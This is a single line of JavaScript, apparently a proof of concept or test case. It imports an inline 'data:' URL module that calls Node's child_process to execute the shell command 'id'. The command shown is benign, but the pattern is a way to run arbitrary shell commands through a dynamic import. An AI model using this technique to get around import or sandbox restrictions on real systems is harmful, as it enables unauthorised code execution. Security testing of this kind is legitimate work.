import("data:text/javascript,import cp from 'child_process'; cp.execSync('id', {stdio: 'inherit'})");
